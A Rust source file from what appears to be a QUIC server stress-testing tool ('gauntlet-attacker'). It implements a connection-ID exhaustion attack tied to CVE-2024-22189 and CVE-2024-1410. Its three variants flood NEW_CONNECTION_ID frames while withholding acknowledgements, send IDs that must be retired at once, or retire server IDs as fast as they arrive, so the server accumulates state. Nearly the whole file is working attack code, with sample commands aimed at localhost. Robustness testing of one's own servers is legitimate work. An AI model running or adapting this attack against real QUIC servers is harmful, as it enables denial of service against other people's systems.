//! Connection IDs that the other end has to keep account of (RFC 9000, section 5.1; CVE-2024-22189, CVE-2024-1410).

use std::io::Write;

use clap::{Args, ValueEnum};

use super::feed::{self, Load};
use crate::caps::Held;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::outcome::Outcome;
use crate::quic::{Acks, QuicSession};
use crate::quic_wire::transport_parameters::Stated;
use crate::quic_wire::{ConnectionId, frame};

/// What comes late is below this sequence number, which no run reaches.
const ASKED_BACK: u64 = 1 << 30;

/// Connection IDs issued and retired at a rate
///
/// Stuffing: a start is a packet of --frames NEW_CONNECTION_ID frames, each of which asks for all older ones back. The
/// server owes a RETIRE_CONNECTION_ID for each, and none of its packets is acknowledged, so that it has to keep what it
/// owes.
/// A server that bounds this closes the connection.
///
/// Late: the first ID asks for all below 2^30 back, and then these come, so that each has to be given back at once. The
/// server owes as much as when stuffing, and one that looks through all that it owes for each takes ever longer.
///
/// Retiring: a start gives back (RETIRE_CONNECTION_ID) an ID that the server offered, so that it has to offer another;
/// without one a start is blocked.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Examples:
  gauntlet-attacker cid-exhaustion --target 127.0.0.1:4433 --variant stuff --rate 5000
  gauntlet-attacker cid-exhaustion --target 127.0.0.1:4433 --variant late --rate 5000
  gauntlet-attacker cid-exhaustion --target 127.0.0.1:4433 --variant retire --rate 5000")]
pub struct CidExhaustion {
    #[command(flatten)]
    common: Common,
    /// Whose IDs
    #[arg(long, value_enum, default_value = "stuff")]
    variant: Variant,
    /// Connections that starts are made on in turn
    #[arg(long, default_value = "1", value_name = "COUNT")]
    connections: Held,
    /// Frames of a start, of IDs of this end
    #[arg(long, default_value_t = 1, value_name = "COUNT", value_parser = clap::value_parser!(u8).range(1..=30))]
    frames: u8,
}

/// Whose IDs are exhausted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
enum Variant {
    /// This end's: issued faster than their retirement is acknowledged.
    Stuff,
    /// This end's: issued when they have been asked back.
    Late,
    /// The server's: given back as fast as they come.
    Retire,
}

impl CidExhaustion {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H3])?;
        let asked = Asked { variant: self.variant, frames: self.frames };
        feed::run::<Ids>(&context, self.connections.count(), asked, out).await
    }
}

/// What a start is.
struct Asked {
    variant: Variant,
    frames: u8,
}

struct Ids {
    session: QuicSession,
    /// Sequence number of the last ID of this end.
    issued: u64,
}

impl Load for Ids {
    type Options = Asked;

    async fn open(context: &Context, asked: &Asked) -> Result<Self, Outcome> {
        let stated = Stated { active_connection_id_limit: 8, ..Stated::default() };
        let mut session = feed::open_quic(context, &stated).await?;
        if asked.variant != Variant::Retire {
            session.client.acks = Acks::Withheld;
        }
        if asked.variant == Variant::Late {
            let mut frames = Vec::new();
            new_id(&mut frames, context, ASKED_BACK, ASKED_BACK);
            session.client.send_frames(frames, true);
        }
        Ok(Self { session, issued: 0 })
    }

    fn start(&mut self, context: &Context, asked: &Asked) -> Result<(), Outcome> {
        let client = &mut self.session.client;
        let mut frames = Vec::with_capacity(40 * usize::from(asked.frames));
        match asked.variant {
            Variant::Stuff | Variant::Late => {
                for _ in 0..asked.frames {
                    self.issued += 1;
                    let retired = if asked.variant == Variant::Late { 0 } else { self.issued };
                    new_id(&mut frames, context, self.issued, retired);
                }
            }
            Variant::Retire => {
                let sequence = client.take_spare_id().ok_or(Outcome::Blocked)?;
                frame::retire_connection_id(&mut frames, sequence);
            }
        }
        // One that is late comes once: a second time it may be an error, which would end what the server owes.
        client.send_frames(frames, asked.variant != Variant::Late);
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        feed::turn_quic(&mut self.session).await
    }
}

/// Issues an ID under a sequence number, and asks for all below another back.
fn new_id(frames: &mut Vec<u8>, context: &Context, sequence: u64, retire_prior_to: u64) {
    let id = ConnectionId::of(context.random());
    frame::new_connection_id(frames, sequence, retire_prior_to, &id, &context.random());
}
